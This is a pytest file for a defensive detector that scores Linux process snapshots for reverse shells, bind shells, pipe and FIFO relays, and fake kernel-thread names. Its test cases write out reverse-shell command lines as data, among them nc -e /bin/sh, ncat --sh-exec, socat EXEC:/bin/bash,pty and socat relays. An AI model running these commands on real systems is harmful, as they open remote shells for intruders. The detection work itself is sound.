"""Pure tests of the technique rules: option semantics per tool (from each tool's man page and
``--help``, quoted in hardening/hunt/score.py), pipe/fifo/pty links, identities, tiers.

The corpus goldens (tests/golden/hunt/corpus_*.out) are real collector output; the small
snapshots built here exercise one rule each with the same data types.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from hardening.hunt.linux import parse_channels, parse_identities, parse_port_range
from hardening.hunt.model import Endpoint, Platform, Process, Snapshot, TcpSocket, Tier
from hardening.hunt.score import HuntContext, exec_option, kind, score


def proc(pid: int, argv: tuple[str, ...], exe: str = "", ppid: int = 1, **kw) -> Process:
    comm = kw.pop("comm", (exe or argv[0]).rsplit("/", 1)[-1][:15])
    return Process(pid=pid, ppid=ppid, comm=comm, exe=exe or argv[0], argv=argv, **kw)


@pytest.mark.parametrize(
    ("argv", "exe", "expected"),
    [
        # openssl s_client has no exec option: -connect/-cert/-cipher are not "-c"
        (("openssl", "s_client", "-quiet", "-connect", "h:4444"), "/usr/bin/openssl", None),
        (("openssl", "s_client", "-cert", "c.pem", "-cipher", "x", "-connect", "h:1"), "/usr/bin/openssl", None),
        # netcat-traditional: -e PROG, -c CMD, also inside a getopt cluster and attached
        (("nc", "-e", "/bin/sh", "h", "1"), "/usr/bin/nc.traditional", "-e /bin/sh"),
        (("nc", "-vnc", "sh -i", "h", "1"), "/usr/bin/nc.traditional", "-vnc sh -i"),
        (("nc", "-e/bin/sh", "h", "1"), "/usr/bin/nc.traditional", "-e/bin/sh"),
        # ... but not when "c" is the argument of -s or -p
        (("nc", "-sc", "h", "1"), "/usr/bin/nc.traditional", None),
        (("nc", "-p", "-c", "h", "1"), "/usr/bin/nc.traditional", None),
        # OpenBSD netcat has no exec option at all (-c/-e do not exist there)
        (("nc", "-e", "x", "h", "1"), "/usr/bin/nc.openbsd", None),
        # ncat: -e/--exec, -c/--sh-exec, --lua-exec, =value and unique abbreviations
        (("ncat", "h", "1", "--sh-exec", "sh -i"), "/usr/bin/ncat", "--sh-exec sh -i"),
        (("ncat", "--sh=sh", "h", "1"), "/usr/bin/ncat", "--sh=sh"),
        (("ncat", "--ssl-cert", "-c", "h", "1"), "/usr/bin/ncat", None),
        (("ncat", "--ssl", "h", "1"), "/usr/bin/ncat", None),
        (("ncat", "-e", "/bin/bash", "h", "1"), "/usr/bin/ncat", "-e /bin/bash"),
        # busybox nc -e; socat EXEC:/SYSTEM: address (any case, also after "!!")
        (("busybox", "nc", "h", "1", "-e", "/bin/sh"), "/usr/bin/busybox", "-e /bin/sh"),
        (("socat", "TCP:h:1", "EXEC:/bin/bash,pty"), "/usr/bin/socat", "EXEC:/bin/bash,pty"),
        (("socat", "exec:'bash -li',pty", "tcp:h:1"), "/usr/bin/socat", "exec:'bash -li',pty"),
        (("socat", "-", "TCP:h:1,connect-timeout=5"), "/usr/bin/socat", None),
    ],
)
def test_exec_options_follow_each_tools_parser(argv, exe, expected):
    assert exec_option(proc(10, argv, exe)) == expected


def test_identity_makes_a_renamed_netcat_a_netcat():
    renamed = proc(5, ("[kworker/0:2]", "198.18.0.1", "4444"), "/var/tmp/.kw", identity="ncat")
    assert kind(renamed) == "netcat"
    assert kind(proc(6, ("/opt/x",), "/opt/x", identity="busybox")) == "other"
    assert kind(proc(6, ("/opt/x", "nc", "h", "1"), "/opt/x", identity="busybox")) == "netcat"


def test_parse_identities_prefers_package_then_known_then_build_string():
    text = (
        "id\t1\taaa\t10\nsig\t1\tGNU bash, version\n"
        "id\t2\tbbb\t20\nsig\t2\tBusyBox v1.35.0\nsig\t2\tStandard commands\n"
        "id\t3\tccc\t30\n"
        "id\t4\t-\t99999999999\n"
        "pkg\t/var/lib/dpkg/info/ncat.md5sums:aaa  usr/bin/ncat\n"
        "known\tccc  /usr/bin/socat\n"
        "garbage line\n"
    )
    assert parse_identities(text) == {1: "ncat", 2: "busybox", 3: "socat"}


def test_parse_channels_and_port_range():
    ipc = "/proc/1/fd/0\tpipe:[7]\0/proc/1/fd/1\t/dev/pts/3\0/proc/2/fd/5\t/dev/ptmx\0/proc/2/fd/6\tsocket:[1]\0junk\0"
    assert parse_channels(ipc, "") == {1: ((0, "pipe:7"), (1, "pts:3")), 2: ((5, "ptmx:?"),)}
    assert parse_port_range("1024 2048") == (1024, 2048)
    assert parse_port_range("9 5") is None and parse_port_range("a b") is None


def tcp(inode: int, local: tuple[str, int], remote: tuple[str, int], state: str = "ESTABLISHED", proto: str = "tcp"):
    return TcpSocket(inode, Endpoint(*local), Endpoint(*remote), state, proto)


def snap(*procs: Process, sockets: tuple[TcpSocket, ...] = ()) -> Snapshot:
    return Snapshot(Platform.LINUX, {p.pid: p for p in procs}, {s.inode: s for s in sockets})


OUT = tcp(100, ("10.0.0.5", 40000), ("203.0.113.9", 443))


def by_pid(s: Snapshot, ctx: HuntContext | None = None) -> dict[int, Tier]:
    return {d.pid: d.severity for d in score(s, ctx or HuntContext())}


def test_fifo_and_pipe_relay_through_a_netcat_is_high():
    sh = proc(20, ("sh", "-i"), "/bin/dash", channels=((0, "fifo:/tmp/f"), (1, "pipe:9"), (2, "pipe:9")))
    nc = proc(21, ("nc", "203.0.113.9", "443"), "/usr/bin/nc.openbsd", sockets=((3, 100),),
              channels=((0, "pipe:9"), (1, "fifo:/tmp/f")))  # fmt: skip
    tiers = by_pid(snap(sh, nc, sockets=(OUT,)))
    assert tiers == {20: Tier.HIGH, 21: Tier.HIGH}
    # a child of the shell shares its pipes on the same fds: it inherits them, it does not relay
    ls = proc(22, ("curl", "x"), "/usr/bin/curl", ppid=20, sockets=((3, 100),), channels=((1, "pipe:9"),))
    assert by_pid(snap(sh, ls, sockets=(OUT,))) == {}


def test_pty_pairs_by_tty_index_and_agents_stay_medium():
    bash = proc(30, ("bash", "-li"), "/bin/bash", channels=((0, "pts:4"), (1, "pts:4"), (2, "pts:4")))
    socat = proc(31, ("socat", "-", "tcp:203.0.113.9:443"), "/usr/bin/socat", sockets=((5, 100),),
                 channels=((6, "ptmx:4"),))  # fmt: skip
    assert by_pid(snap(bash, socat, sockets=(OUT,)))[30] is Tier.HIGH
    # a compiled agent (not a netcat-like, no inline code) feeding a non-interactive shell: medium
    runner = proc(32, ("gitlab-runner", "run"), "/usr/bin/gitlab-runner", sockets=((7, 100),),
                  channels=((8, "pipe:1"), (9, "pipe:2")))  # fmt: skip
    build = proc(33, ("bash", "--login"), "/bin/bash", ppid=32, channels=((0, "pipe:1"), (1, "pipe:2"), (2, "pipe:2")))
    tiers = by_pid(snap(runner, build, sockets=(OUT,)))
    assert tiers[33] is Tier.MEDIUM and tiers[32] is Tier.MEDIUM
    # curl | sh: commands in, output elsewhere: medium
    curl = proc(34, ("curl", "-s", "u"), "/usr/bin/curl", sockets=((3, 100),), channels=((1, "pipe:5"),))
    sh = proc(35, ("sh",), "/bin/dash", channels=((0, "pipe:5"),))
    assert by_pid(snap(curl, sh, sockets=(OUT,)))[35] is Tier.MEDIUM


def test_bind_shell_versus_socket_activated_service():
    accepted = tcp(200, ("10.0.0.5", 2323), ("203.0.113.9", 51000))
    listen = tcp(201, ("0.0.0.0", 2323), ("0.0.0.0", 0), "LISTEN")
    bind = proc(40, ("sh",), "/bin/dash", ppid=7, sockets=((0, 200), (1, 200), (2, 200)))
    found = {d.pid: d for d in score(snap(bind, sockets=(accepted,)))}
    assert found[40].severity is Tier.HIGH and found[40].extra["technique"] == "bind-shell"
    inetd = proc(41, ("inetd",), "/usr/sbin/inetd", sockets=((4, 201),))
    handler = proc(42, ("sh", "/opt/handler.sh"), "/bin/dash", ppid=41, sockets=((0, 200), (1, 200), (2, 200)))
    assert by_pid(snap(inetd, handler, sockets=(accepted, listen))) == {}
    backdoor = proc(43, ("sh", "-i"), "/bin/dash", ppid=41, sockets=((0, 200), (1, 200), (2, 200)))
    assert by_pid(snap(inetd, backdoor, sockets=(accepted, listen)))[43] is Tier.HIGH
    # systemd .socket with Accept=yes: pid 1 holds the listener and starts the instance on the connection
    systemd = proc(1, ("/sbin/init",), "/usr/lib/systemd/systemd", ppid=0, sockets=((30, 201),))
    instance = proc(44, ("/usr/bin/python3", "/usr/lib/git-daemon.py"), "/usr/bin/python3.11", ppid=1,
                    sockets=((0, 200), (1, 200), (2, 200)))  # fmt: skip
    assert by_pid(snap(systemd, instance, sockets=(accepted, listen))) == {}
    # the same connection with no socket-activating parent: a python bind shell
    orphan = replace(instance, ppid=7)
    assert by_pid(snap(systemd, orphan, sockets=(accepted, listen)))[44] is Tier.HIGH


def test_any_listener_is_a_service_and_kernel_thread_names_are_flagged():
    listen = tcp(300, ("0.0.0.0", 8000), ("0.0.0.0", 0), "LISTEN")
    gunicorn = proc(50, ("/usr/bin/python3", "/usr/bin/gunicorn", "app:app"), "/usr/bin/python3.11",
                    sockets=((5, 300),))  # fmt: skip
    worker = proc(51, ("/usr/bin/python3", "/usr/bin/gunicorn", "app:app"), "/usr/bin/python3.11", ppid=50,
                  sockets=((5, 300),))  # fmt: skip
    sh = proc(52, ("sh", "-c", "id"), "/bin/dash", ppid=51)
    found = {d.pid: d for d in score(snap(gunicorn, worker, sh, sockets=(listen,)))}
    assert found[52].severity is Tier.MEDIUM and "exposed service python3.11(51)" in " ".join(found[52].reasons)
    fake = proc(60, ("[kworker/0:1]",), "/tmp/.x")
    assert by_pid(snap(fake)) == {60: Tier.MEDIUM}
    fake_net = proc(61, ("[kworker/0:1]",), "/tmp/.x", sockets=((3, 100),))
    assert by_pid(snap(fake_net, sockets=(OUT,))) == {61: Tier.HIGH}
    kthread = Process(pid=62, ppid=2, comm="kworker/0:1")  # a real kernel thread: no exe, no argv
    assert by_pid(snap(kthread)) == {}


def test_udp_and_loopback_relay_and_approved_networks():
    udp = tcp(400, ("10.0.0.5", 40001), ("203.0.113.9", 53), proto="udp")
    bash = proc(70, ("bash", "-i"), "/bin/bash", sockets=((0, 400), (1, 400), (2, 400)))
    found = {d.pid: d for d in score(snap(bash, sockets=(udp,)))}
    assert found[70].severity is Tier.HIGH and "UDP socket" in found[70].reasons[0]
    # a shell on ::1 whose peer relays to the outside
    a = tcp(500, ("::1", 41000), ("::1", 24006))
    b = tcp(501, ("::1", 24006), ("::1", 41000))
    shell = proc(80, ("bash", "-i"), "/bin/bash", sockets=((0, 500), (1, 500), (2, 500)))
    relay = proc(81, ("socat", "TCP6-LISTEN:24006", "TCP4:203.0.113.9:443"), "/usr/bin/socat",
                 sockets=((5, 501), (6, 100)))  # fmt: skip
    assert by_pid(snap(shell, relay, sockets=(a, b, OUT)))[80] is Tier.HIGH
    assert by_pid(snap(shell, sockets=(a,)))[80] is Tier.MEDIUM  # nobody relays: a tunnel we cannot follow
    # approved networks lower, never raise
    import ipaddress

    poller = proc(90, ("python3", "/opt/poll.py"), "/usr/bin/python3.11", sockets=((3, 100),))
    plain = by_pid(snap(poller, sockets=(OUT,)))
    elsewhere = by_pid(snap(poller, sockets=(OUT,)), HuntContext(approved=(ipaddress.ip_network("10.0.0.0/8"),)))
    inside = by_pid(snap(poller, sockets=(OUT,)), HuntContext(approved=(ipaddress.ip_network("203.0.113.0/24"),)))
    assert plain == elsewhere == {90: Tier.LOW} and inside == {90: Tier.LOW}


def test_hostile_names_cannot_fake_other_records():
    """A fifo path is data inside its own NUL-terminated record: a newline or a "/proc/1/fd/0<TAB>"
    in it never makes a channel of another process; unknown exeid lines and bad pids are dropped."""
    ipc = "/proc/5/fd/0\t/tmp/a\n/proc/1/fd/0\tpipe:[9]\0/proc/5/fd/1\t/tmp/b\t/proc/1/fd/1\0"
    assert parse_channels(ipc, "/proc/1/fdinfo/0:tty-index:\t3\n") == {5: ((1, "fifo:/tmp/b\t/proc/1/fd/1"),)}
    text = "id\tx\tab\t\nsig\t-1\tnmap.org/ncat\nid\t7\tab\t\nsig\t7\tnot a signature\npkg\tno colon here\n"
    assert parse_identities(text) == {}


def test_many_processes_on_one_pipe_stay_cheap():
    """A CI build: 1,500 shells share one stdout pipe read by a runner connected out (and a job-server
    pipe on fd 3). Scoring stays well under a second per thousand processes: each shell's relay
    verdict is computed once, and only processes holding an outbound connection are relay candidates."""
    import time

    runner = proc(2, ("runner", "run"), "/usr/bin/runner", sockets=((7, 100),), channels=((8, "pipe:1"),))
    shells = [
        proc(10 + i, ("sh", "-c", "make"), "/bin/dash", ppid=2, channels=((1, "pipe:1"), (2, "pipe:1"), (3, "pipe:2")))
        for i in range(1500)
    ]
    started = time.monotonic()
    found = score(snap(runner, *shells, sockets=(OUT,)))
    assert time.monotonic() - started < 3
    assert all(d.severity is not Tier.HIGH for d in found)
    # the same shells fed on stdin by the runner and writing back to it: each is medium (an agent's
    # shape), found in linear time (only the runner is a relay candidate)
    fed = [replace(s, channels=((0, "pipe:1"), (1, "pipe:3"), (2, "pipe:3")), argv=("sh",)) for s in shells]
    feeder = replace(runner, channels=((8, "pipe:1"), (9, "pipe:3")))
    started = time.monotonic()
    found = score(snap(feeder, *fed, sockets=(OUT,)))
    assert time.monotonic() - started < 3
    assert len(found) == 1501 and {d.severity for d in found} == {Tier.MEDIUM}


def test_a_daemon_reusing_one_stdio_fd_for_its_connection_is_not_high():
    # rsyslogd forwarding to its collector (seen from a container host): it closed its stdio at
    # start, so its forwarding socket got fd 2; 0 and 1 stay /dev/null.
    rsyslogd = proc(30, ("/usr/sbin/rsyslogd", "-n", "-iNONE"), stdio=("/dev/null", "/dev/null", "socket:[100]"),
                    sockets=((2, 100),))  # fmt: skip
    assert by_pid(snap(rsyslogd, sockets=(OUT,))) == {30: Tier.MEDIUM}
    # the same program with the socket dup2'd onto two stdio fds, or a shell with one, is high
    dup = replace(rsyslogd, stdio=("socket:[100]", "socket:[100]", "/dev/null"), sockets=((0, 100), (1, 100)))
    assert by_pid(snap(dup, sockets=(OUT,))) == {30: Tier.HIGH}
    sh = proc(31, ("bash",), "/usr/bin/bash", stdio=("socket:[100]", "/dev/pts/0", "/dev/pts/0"), sockets=((0, 100),))
    assert by_pid(snap(sh, sockets=(OUT,))) == {31: Tier.HIGH}
